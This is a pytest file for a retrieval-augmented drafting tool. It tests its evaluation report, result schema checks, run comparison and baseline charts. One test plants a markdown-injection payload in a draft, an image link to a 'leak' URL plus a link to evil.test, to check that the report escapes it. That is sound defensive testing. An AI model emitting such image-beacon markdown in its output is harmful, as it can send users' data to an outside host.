"""The eval report, the result schema check and run comparison, on small hand-made results."""

from __future__ import annotations

import copy
import json
import struct

import pytest

from rag.evaluation.compare import compare_runs, format_comparison
from rag.evaluation.report import baseline_verdict, baselines_figure, validate_result, write_report

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def _case(i: int, system: float, nearest: float, oracle: float | None, **extra):
    return {
        "id": f"case-{i}",
        "question": f"What is being done about topic {i}?",
        "draft": f"We are funding topic {i} [1]. " + "More words. " * (100 if i == 0 else 1),
        "reference_answer": f"The Department is funding topic {i}.\n\nSecond paragraph {i}.",
        "citations": [{"n": 1, "doc_id": f"doc-{i}"}],
        "warnings": [],
        "rougeL_f1": system,
        "semantic_similarity": 0.7,
        "key_fact_recall": 1.0,
        "citation_validity": 1.0,
        "citation_support": 0.5,
        "retrieval_rank": i % 3 + 1 if oracle is not None else None,
        "nearest_rougeL_f1": nearest,
        "nearest_semantic_similarity": 0.6,
        "oracle_rougeL_f1": oracle,
        "oracle_doc_id": f"doc-{i}" if oracle is not None else None,
        **extra,
    }


def make_result() -> dict:
    cases = [
        _case(0, 0.55, 0.50, 0.70),
        _case(1, 0.45, 0.40, 0.60),
        _case(2, 0.35, 0.30, 0.45),
        _case(3, 0.25, 0.20, 0.35),
        _case(4, 0.15, 0.10, 0.25),
        _case(5, 0.05, 0.08, 0.20),
        _case(6, 0.30, 0.25, 0.52),
        _case(7, 0.10, 0.0, None),  # no eligible precedent
    ]
    return {
        "summary": {
            "n_cases": len(cases),
            "backend": "offline",
            "rougeL_f1": 0.275,
            "semantic_similarity": 0.7,
            "key_fact_recall": 1.0,
            "citation_validity": 1.0,
            "citation_support": 0.5,
            "retrieval_recall_at_5": 1.0,
            "mrr": 0.61,
            "baselines": {
                "nearest_precedent": {"rougeL_f1": 0.229, "semantic_similarity": 0.6},
                "oracle_precedent": {"rougeL_f1": 0.439},
            },
            "gap_closed": 0.219,
            "seconds": 12.5,
        },
        "cases": cases,
    }


def _png_size(data: bytes) -> tuple[int, int]:
    assert data[:8] == PNG_SIGNATURE
    assert data[12:16] == b"IHDR"
    return struct.unpack(">II", data[16:24])


# --------------------------------------------------------------------------- report


def test_write_report_writes_sections_and_pngs(tmp_path):
    path = write_report(make_result(), tmp_path / "out")
    assert path == tmp_path / "out" / "report.md"
    text = path.read_text(encoding="utf-8")
    for section in (
        "# Ymateb eval report",
        "## Summary",
        "**Gap closed**",
        "## Distributions",
        "## System against the baselines",
        "## By strength of the best precedent",
        "## The 5 best cases",
        "## The 5 worst cases",
    ):
        assert section in text, section
    assert "| rougeL_f1 | 0.275 | 0.229 | 0.439 |" in text
    assert "0.219" in text
    for png in ("distributions.png", "baselines.png"):
        assert f"]({png})" in text
        width, height = _png_size((tmp_path / "out" / png).read_bytes())
        assert width > 100 and height > 100


def test_report_buckets_by_oracle_strength(tmp_path):
    text = write_report(make_result(), tmp_path).read_text(encoding="utf-8")
    # oracle >= 0.5: cases 0, 1, 6 -> system mean (0.55 + 0.45 + 0.30) / 3
    assert "| strong (oracle ≥ 0.5) | 3 | 0.433 | 0.383 | 0.607 |" in text
    assert "| middling (0.3–0.5) | 2 | 0.300 | 0.250 | 0.400 |" in text
    assert "| weak (< 0.3) | 2 | 0.100 | 0.090 | 0.225 |" in text
    assert "1 case(s) had no eligible precedent" in text


def test_report_best_and_worst_are_ordered_and_truncated(tmp_path):
    text = write_report(make_result(), tmp_path).read_text(encoding="utf-8")
    best, worst = text.split("## The 5 best cases")[1].split("## The 5 worst cases")
    best_ids = [line.split()[1] for line in best.splitlines() if line.startswith("### ")]
    worst_ids = [line.split()[1] for line in worst.splitlines() if line.startswith("### ")]
    assert best_ids == ["case-0", "case-1", "case-2", "case-6", "case-3"]
    assert worst_ids == ["case-5", "case-7", "case-4", "case-3", "case-6"]
    assert "**Question**" in best and "**Real answer**" in best and "**Draft**" in best
    assert "> Second paragraph 0." in best  # paragraphs stay inside the quote
    long_draft = best.split("### case-0")[1].split("### ")[0]
    assert " …" in long_draft and "More words. " * 80 not in long_draft


def test_report_charts_are_deterministic(tmp_path):
    write_report(make_result(), tmp_path / "a")
    write_report(make_result(), tmp_path / "b")
    for name in ("report.md", "distributions.png", "baselines.png"):
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes(), name


def test_report_handles_missing_metric_values(tmp_path):
    result = make_result()
    result["summary"]["gap_closed"] = None
    result["summary"]["citation_support"] = None
    for case in result["cases"]:
        case["citation_support"] = None
    text = write_report(result, tmp_path).read_text(encoding="utf-8")
    assert "**Gap closed** (ROUGE-L, nearest precedent → oracle): —" in text
    assert "| citation_support | — |" in text


# --------------------------------------------------------------------------- schema


def _drop(path: tuple):
    def edit(result):
        target = result
        for key in path[:-1]:
            target = target[key]
        del target[path[-1]]

    return edit


def _set(path: tuple, value):
    def edit(result):
        target = result
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = value

    return edit


@pytest.mark.parametrize(
    "edit, problem",
    [
        (_drop(("summary", "rougeL_f1")), "summary.rougeL_f1: missing"),
        (_drop(("summary", "baselines", "oracle_precedent")), "summary.baselines.oracle_precedent: missing"),
        (
            _drop(("summary", "baselines", "nearest_precedent", "semantic_similarity")),
            "summary.baselines.nearest_precedent.semantic_similarity: missing",
        ),
        (_drop(("summary", "baselines")), "summary.baselines: missing"),
        (_drop(("cases", 2, "draft")), "cases[2].draft: missing"),
        (_set(("summary", "mrr"), "0.5"), "summary.mrr: wrong type (str)"),
        (_set(("summary", "n_cases"), True), "summary.n_cases: wrong type (bool)"),
        (_set(("summary", "n_cases"), 3), "summary.n_cases: 3 but there are 8 cases"),
        (_set(("cases", 0, "retrieval_rank"), 1.5), "cases[0].retrieval_rank: wrong type (float)"),
        (_set(("cases", 0, "citations"), None), "cases[0].citations: wrong type (NoneType)"),
        (_set(("cases", 1), "not a case"), "cases[1]: expected an object"),
        (_drop(("cases",)), "cases: missing"),
        (_set(("cases",), {"0": {}}), "cases: wrong type (dict)"),
    ],
    ids=[
        "summary-metric",
        "baseline-block",
        "baseline-metric",
        "baselines",
        "case-field",
        "string-number",
        "bool-count",
        "count-mismatch",
        "float-rank",
        "null-list",
        "case-not-object",
        "no-cases",
        "cases-not-list",
    ],
)
def test_validate_result_finds_problem(edit, problem):
    result = make_result()
    edit(result)
    problems = validate_result(result)
    assert any(p.startswith(problem) for p in problems), problems


def test_validate_result_accepts_good_result_with_nulls_and_extras():
    result = make_result()
    result["summary"]["gap_closed"] = None
    result["cases"][0]["extra_field"] = {"anything": 1}
    assert validate_result(json.loads(json.dumps(result))) == []
    assert validate_result([]) == ["result: expected an object"]


# --------------------------------------------------------------------------- compare


def test_compare_runs_reports_metric_changes_and_worse_cases():
    a = make_result()
    b = copy.deepcopy(a)
    b["summary"]["rougeL_f1"] = 0.300
    b["cases"][1]["rougeL_f1"] = 0.20  # dropped 0.25
    b["cases"][4]["rougeL_f1"] = 0.05  # dropped 0.10
    b["cases"][2]["rougeL_f1"] = 0.3495  # dropped 0.0005: within epsilon
    b["cases"][3]["rougeL_f1"] = 0.60  # improved

    cmp = compare_runs(a, b)  # the same cases: the summaries as saved

    metrics = {m["metric"]: m for m in cmp["metrics"]}
    assert metrics["rougeL_f1"]["a"] == pytest.approx(0.275) and metrics["rougeL_f1"]["label"] == "ROUGE-L F1"
    assert metrics["rougeL_f1"]["delta"] == pytest.approx(0.025) and metrics["rougeL_f1"]["better"] is True
    assert metrics["baselines.oracle_precedent.rougeL_f1"]["delta"] == pytest.approx(0.0)
    assert (
        metrics["baselines.nearest_precedent.semantic_similarity"]["label"] == "Semantic similarity (nearest precedent)"
    )
    assert [w["id"] for w in cmp["worse"]] == ["case-1", "case-4"]
    assert cmp["worse"][0]["delta"] == pytest.approx(-0.25)
    assert cmp["same_cases"] and cmp["only_in_a"] == cmp["only_in_b"] == [] and cmp["n_matched"] == 8

    text = format_comparison(cmp)
    assert "rougeL_f1" in text and "+0.025" in text and "different cases" not in text
    assert "2 of 8 matched case(s) worse" in text
    assert text.index("case-1") < text.index("case-4")


def test_runs_over_different_cases_are_compared_over_the_cases_they_share():
    a = make_result()
    b = copy.deepcopy(a)
    b["summary"]["rougeL_f1"] = 0.9  # b's own mean, over cases a lacks: not compared
    b["cases"][3]["rougeL_f1"] = 0.60  # improved by 0.35
    b["cases"].pop(6)
    b["cases"].append(_case(9, 0.99, 0.0, 0.99))
    b["summary"]["n_cases"] = len(b["cases"])

    cmp = compare_runs(a, b)

    shared = [c for c in a["cases"] if c["id"] != "case-6"]
    metrics = {m["metric"]: m for m in cmp["metrics"]}
    assert not cmp["same_cases"] and cmp["n_matched"] == 7
    assert cmp["only_in_a"] == ["case-6"] and cmp["only_in_b"] == ["case-9"]
    assert metrics["rougeL_f1"]["a"] == pytest.approx(sum(c["rougeL_f1"] for c in shared) / 7, abs=1e-4)
    assert metrics["rougeL_f1"]["delta"] == pytest.approx(0.35 / 7, abs=1e-3)
    oracle = [c["oracle_rougeL_f1"] for c in shared if c["oracle_rougeL_f1"] is not None]
    assert metrics["baselines.oracle_precedent.rougeL_f1"]["b"] == pytest.approx(sum(oracle) / len(oracle), abs=1e-4)
    assert metrics["n_cases"]["a"] == 8 and metrics["n_cases"]["b"] == 8  # each whole run, labelled so
    text = format_comparison(cmp)
    assert text.startswith("The runs hold different cases: means over the 7 case(s) both share.")
    assert "only in a: case-6" in text and "only in b: case-9" in text


def test_runs_that_share_no_case_have_no_means_to_compare():
    a = make_result()
    b = copy.deepcopy(a)
    for i, case in enumerate(b["cases"]):
        case["id"] = f"other-{i}"
    cmp = compare_runs(a, b)
    assert cmp["n_matched"] == 0 and not cmp["same_cases"]
    assert all(m["a"] is None and m["b"] is None for m in cmp["metrics"] if m["metric"] not in ("n_cases", "seconds"))


def test_compare_runs_handles_missing_values():
    a = make_result()
    b = copy.deepcopy(a)
    b["summary"]["gap_closed"] = None
    b["cases"][0]["rougeL_f1"] = None
    cmp = compare_runs(a, b)
    gap = next(m for m in cmp["metrics"] if m["metric"] == "gap_closed")
    assert gap["b"] is None and gap["delta"] is None
    assert cmp["worse"] == []
    assert "—" in format_comparison(cmp)


def test_report_quotes_case_text_as_text(tmp_path):
    result = make_result()
    result["cases"][0]["draft"] = "Funded ![x](http://127.0.0.1:9/leak?d=S) <img src=x> [click](http://evil.test/) [1]."
    text = write_report(result, tmp_path).read_text(encoding="utf-8")
    assert "![x](" not in text and " <img" not in text and "[click](" not in text
    assert "> Funded !\\[x\\](http\u2060://127.0.0.1:9/leak?d=S) \\<img src=x\\>" in text


# --------------------------------------------------------------------------- the baselines, in words and drawn

SEEDS_SUMMARY = {  # the offline backend on the seed cases
    "rougeL_f1": 0.0839,
    "semantic_similarity": 0.2605,
    "refusal_rate": 0.3333,
    "rougeL_f1_drafted": 0.1468,
    "baselines": {
        "nearest_precedent": {"rougeL_f1": 0.1546, "semantic_similarity": 0.7704},
        "oracle_precedent": {"rougeL_f1": 0.1818},
    },
    "gap_closed": -2.592,
}


def test_a_system_below_the_nearest_precedent_is_told_so_plainly():
    verdict = baseline_verdict(SEEDS_SUMMARY)
    assert verdict is not None
    assert (
        "below the nearest-precedent baseline (ROUGE-L F1 0.084 against 0.155 and Semantic similarity 0.261" in verdict
    )
    assert "sending the nearest earlier reply unchanged would have matched the real answers more closely" in verdict
    assert "Gap closed -2.592" in verdict and "2.6 times" in verdict
    assert "33% of the answerable cases were refused" in verdict and "0.147" in verdict


def test_a_system_above_the_nearest_precedent_gets_no_warning(tmp_path):
    result = make_result()
    assert baseline_verdict(result["summary"]) is None
    assert "Below the baseline" not in write_report(result, tmp_path).read_text(encoding="utf-8")


def test_the_report_says_when_the_system_is_below_the_baseline(tmp_path):
    result = make_result()
    result["summary"] |= SEEDS_SUMMARY
    text = write_report(result, tmp_path).read_text(encoding="utf-8")
    assert "**Below the baseline.** The drafts score below the nearest-precedent baseline" in text


@pytest.mark.parametrize(
    "summary",
    [
        SEEDS_SUMMARY,
        make_result()["summary"],
        {
            "rougeL_f1": 1.0,
            "semantic_similarity": 0.99,
            "baselines": {
                "nearest_precedent": {"rougeL_f1": 0.98, "semantic_similarity": 1.0},
                "oracle_precedent": {"rougeL_f1": 1.0},
            },
        },
    ],
    ids=["seeds", "made-up", "all-near-one"],
)
def test_the_baselines_chart_legend_covers_no_bar_label(summary):
    from matplotlib.backends.backend_agg import FigureCanvasAgg

    fig = baselines_figure(summary)
    FigureCanvasAgg(fig).draw()
    renderer = fig.canvas.get_renderer()
    (ax,) = fig.axes
    legend = fig.legends[0].get_window_extent(renderer)
    labels = [t.get_window_extent(renderer) for t in ax.texts]
    assert len(labels) == 6 and {t.get_text() for t in ax.texts} >= {"n/a"}
    box = ax.get_window_extent(renderer)
    for label in labels:
        assert not label.overlaps(legend)
        assert box.x0 <= label.x0 and label.x1 <= box.x1 and box.y0 <= label.y0 and label.y1 <= box.y1
